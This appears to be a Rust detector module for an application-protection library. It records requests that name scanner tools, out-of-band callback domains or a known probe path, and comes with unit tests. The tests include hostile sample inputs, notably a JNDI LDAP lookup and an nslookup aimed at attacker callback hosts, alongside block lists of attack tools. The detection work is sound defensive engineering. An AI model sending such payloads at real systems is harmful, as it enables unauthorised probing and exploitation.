//! Scanners and exploit tools (CAPEC-310): requests that say of themselves that somebody looks for weaknesses.
//!
//! Whoever means harm changes the name of his tool, so this is a hint for whoever reads the record, always Low, and blocks
//! nothing by the built-in settings. Libraries and monitors (curl, requests, Go, Prometheus) are no scanners.
//! Sources: the names that the tools send by default, and the hosts they wait for calls on (documentation of each).

use rasp_policy::class::Class;

use crate::decode::Field;
use crate::detector::{Detector, Evidence, Needs, Report, Rule, needles};
use crate::finding::Confidence::Low;
use crate::finding::{Part, RuleId};
use crate::mask;
use crate::reason::Reason;

pub(crate) static DETECTOR: Detector = Detector { class: Class::ScannerSignal, needs: NEEDS, inspect, rules };

const NEEDS: Needs = Needs {
    alone: b"",
    bytes: b"./",
    needles: &needles::<{ TOOLS.len() + CALLBACKS.len() + PROBES.len() }>(&[TOOLS, CALLBACKS, PROBES]),
};

const AGENT: Rule =
    Rule { id: RuleId("scanner-agent"), reason: "the client says that it is a scanner or an exploit tool" };
const CALLBACK: Rule = Rule {
    id: RuleId("scanner-callback"),
    reason: "the value names a host on which exploit tools wait to be called back",
};
const PROBE: Rule = Rule {
    id: RuleId("scanner-probe"),
    reason: "the path is one that a scanner asks for to learn what is missing",
};

fn rules() -> Vec<Rule> {
    vec![AGENT, CALLBACK, PROBE]
}

/// Words of a `User-Agent`. None of them is a word of a browser, a library or a monitor.
const TOOLS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nuclei",
    "nmap",
    "masscan",
    "zgrab",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "wpscan",
    "acunetix",
    "openvas",
    "openvas-vt",
    "greenbone",
    "arachni",
    "w3af",
    "w3af.org",
    "nessus",
    "qualys",
    "netsparker",
    "invicti",
    "appscan",
    "webinspect",
    "skipfish",
    "wfuzz",
    "fuzz faster u fool",
    "dirsearch",
    "joomscan",
    "commix",
    "havij",
    "jaeles",
    "zaproxy",
    "whatweb",
    "xsstrike",
    "dalfox",
    "httpx - open-source project",
];

/// Domains below which each test has a host of its own.
const CALLBACKS: &[&str] = &[
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "interactsh.com",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.fun",
    "oast.me",
    "dnslog.cn",
    "ceye.io",
    "bxss.me",
    "requestrepo.com",
    "xss.ht",
];

/// Paths that a tool asks for to learn how the application says that there is nothing.
const PROBES: &[&str] = &["nice ports,/trinity.txt.bak"];

fn inspect(field: &Field<'_>, report: &mut Report<'_>) -> Result<(), Reason> {
    report.budget().work(field.value.len())?;
    let Some((rule, at)) = detect(field) else { return Ok(()) };
    let sample = mask::sample(field.value.get(at.clone()).unwrap_or_default(), is_word);
    report.find(field, Evidence { rule, confidence: Low, at, sample });
    Ok(())
}

fn detect(field: &Field<'_>) -> Option<(Rule, std::ops::Range<usize>)> {
    let value = field.value;
    if field.part == Part::Header && field.name.eq_ignore_ascii_case(b"user-agent") {
        let tool = TOOLS.iter().find_map(|tool| word(value, tool.as_bytes(), is_of_word, is_of_word));
        if let Some(at) = tool {
            return Some((AGENT, at));
        }
    }
    if field.part == Part::Path && PROBES.iter().any(|path| value.eq_ignore_ascii_case(path.as_bytes())) {
        return Some((PROBE, 0..value.len()));
    }
    let callback = CALLBACKS.iter().find_map(|domain| {
        let at = word(value, domain.as_bytes(), |byte| byte != b'.', is_of_host)?;
        // Below the domain: the domain itself is a site that people link to.
        let label = value.get(..at.start)?.strip_suffix(b".")?;
        label.last().is_some_and(u8::is_ascii_alphanumeric).then_some(at)
    });
    callback.map(|at| (CALLBACK, at))
}

/// Where a word stands with nothing of a longer one before and behind it, whatever its case.
fn word(
    value: &[u8],
    word: &[u8],
    joins_before: impl Fn(u8) -> bool,
    joins_behind: impl Fn(u8) -> bool,
) -> Option<std::ops::Range<usize>> {
    let (first, _) = word.split_first()?;
    let starts = memchr::memchr2_iter(*first, first.to_ascii_uppercase(), value);
    starts.map(|start| start..start + word.len()).find(|at| {
        let is_it = value.get(at.clone()).is_some_and(|found| found.eq_ignore_ascii_case(word));
        let before = at.start.checked_sub(1).and_then(|before| value.get(before));
        let joined = before.is_some_and(|byte| joins_before(*byte))
            || value.get(at.end).is_some_and(|byte| joins_behind(*byte));
        is_it && !joined
    })
}

fn is_of_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

fn is_of_host(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'.'
}

/// Words that may be shown in a sample.
fn is_word(word: &[u8]) -> bool {
    let known = |list: &[&str]| {
        list.iter()
            .any(|entry| entry.split(['.', '-', ' ']).any(|part| word.eq_ignore_ascii_case(part.as_bytes())))
    };
    known(TOOLS) || known(CALLBACKS)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn rule(part: Part, name: &str, value: &[u8]) -> Option<&'static str> {
        detect(&Field { part, name: name.as_bytes(), value }).map(|(rule, _)| rule.id.0)
    }

    #[test]
    fn tools_that_name_themselves_are_recorded() {
        let agents = [
            "sqlmap/1.8#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 zgrab/0.x",
            "DirBuster-1.0-RC1 (http://www.owasp.org/)",
            "gobuster/3.6",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
            "Arachni/v1.5.1",
            "w3af.org",
            "Fuzz Faster U Fool v2.1.0",
        ];
        for agent in agents {
            assert_eq!(rule(Part::Header, "User-Agent", agent.as_bytes()), Some("scanner-agent"), "{agent}");
        }
        let callbacks = [
            "http://x1.oastify.com/",
            "${jndi:ldap://abc.burpcollaborator.net/a}",
            "nslookup c58bduhe.oast.fun",
            "//0a1b.interact.sh",
            "https://A.DNSLOG.CN",
        ];
        for value in callbacks {
            assert_eq!(rule(Part::Query, "url", value.as_bytes()), Some("scanner-callback"), "{value}");
        }
        assert_eq!(rule(Part::Path, "", b"nice ports,/Trinity.txt.bak"), Some("scanner-probe"));
    }

    #[test]
    fn libraries_monitors_browsers_and_texts_about_tools_are_not() {
        let agents = [
            "curl/8.5.0",
            "python-requests/2.32.3",
            "Go-http-client/1.1",
            "kube-probe/1.33",
            "Prometheus/2.53.0",
            "Blackbox Exporter/0.25.0",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
            "okhttp/4.12.0",
            "Arachnid/1.0",
            "Java-http-client/21.0.2",
            "UptimeRobot/2.0; http://www.uptimerobot.com/",
            "GoogleHC/1.0",
            "nmapper.app/2.0",
        ];
        for agent in agents {
            assert_eq!(rule(Part::Header, "User-Agent", agent.as_bytes()), None, "{agent}");
        }
        let values = [
            "how to read the report of sqlmap/nikto.",
            "https://interact.sh/docs",
            "https://oastify.com.example.org/",
            "notoast.fun",
            "a.boast.fun/x",
            "see ceye.io.",
        ];
        for value in values {
            assert_eq!(rule(Part::Form, "text", value.as_bytes()), None, "{value}");
        }
    }

    proptest! {
        #[test]
        fn no_bytes_panic(value in proptest::collection::vec(prop_oneof![Just(b'.'), Just(b'n'), Just(b'x'), any::<u8>()], 0..200)) {
            for (part, name) in [(Part::Header, "user-agent"), (Part::Query, "q")] {
                let _ = rule(part, name, &value);
            }
        }
    }
}
